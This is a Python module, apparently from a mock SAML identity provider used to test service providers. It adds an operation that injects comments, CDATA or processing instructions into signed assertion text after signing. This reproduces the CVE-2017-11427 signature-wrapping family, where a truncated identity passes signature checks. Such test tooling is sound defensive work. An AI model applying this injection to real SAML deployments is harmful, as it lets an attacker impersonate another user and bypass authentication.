"""Markup injection into signed text (CVE-2017-11427 family): comments, CDATA and processing instructions.

Exclusive c14n without comments drops comments and processing instructions and turns CDATA into text, so
the signature stays valid; a reader that takes an element's first text node sees a shorter value
(``owner@acme.example<!---->.evil.example`` reads as ``owner@acme.example``). The SP must read the whole
signed value or refuse the message (CVE-2017-11427 and its siblings).
"""

from __future__ import annotations

from xml.sax.saxutils import escape

from lxml import etree

from mock_idp.op_registry import OpContext, op
from saml_xmlns import NS

KINDS = ("comment", "cdata", "pi")


def _targets(root: etree._Element, xpath: str) -> list[etree._Element]:
    found = root.xpath(xpath, namespaces=NS)
    elements = [e for e in found if isinstance(e, etree._Element)] if isinstance(found, list) else []
    if not elements:
        raise ValueError(f"inject_markup: nothing matches {xpath!r}")
    return elements


def _split(element: etree._Element, at: int) -> tuple[str, str]:
    if len(element):
        raise ValueError("inject_markup: the element already has child nodes")
    value = element.text or ""
    if not 0 < at < len(value):
        raise ValueError(f"inject_markup: offset {at} is not inside the {len(value)}-character value {value!r}")
    return value[:at], value[at:]


def _with_cdata(element: etree._Element, head: str, tail: str) -> etree._Element:
    """Return a copy of ``element`` whose text is ``head`` followed by a CDATA section holding ``tail``."""
    serialized = etree.tostring(element, with_tail=False).decode("utf-8")
    start = serialized.split(">", 1)[0].rstrip("/")
    closing = f"</{element.prefix}:{etree.QName(element).localname}>" if element.prefix else f"</{element.tag}>"
    text = f"{start}>{escape(head)}<![CDATA[{tail}]]>{closing}"
    return etree.fromstring(text.encode("utf-8"), etree.XMLParser(strip_cdata=False))


@op("inject_markup", stages=("post_sign",))
def inject_markup(
    root: etree._Element, ctx: OpContext, xpath: str, at: int, kind: str = "comment", text: str = ""
) -> None:
    """Split the text of each element matching ``xpath`` at character ``at`` with a comment, CDATA or PI."""
    if kind not in KINDS:
        raise ValueError(f"inject_markup: kind must be one of {KINDS}, got {kind!r}")
    for element in _targets(root, xpath):
        head, tail = _split(element, at)
        if kind == "cdata":
            replacement = _with_cdata(element, head, tail)
            replacement.tail = element.tail
            parent = element.getparent()
            if parent is None:
                raise ValueError("inject_markup: cannot replace the document element")
            parent.replace(element, replacement)
            continue
        node = etree.Comment(text) if kind == "comment" else etree.ProcessingInstruction("harness", text or "x")
        element.text = head
        node.tail = tail
        element.insert(0, node)
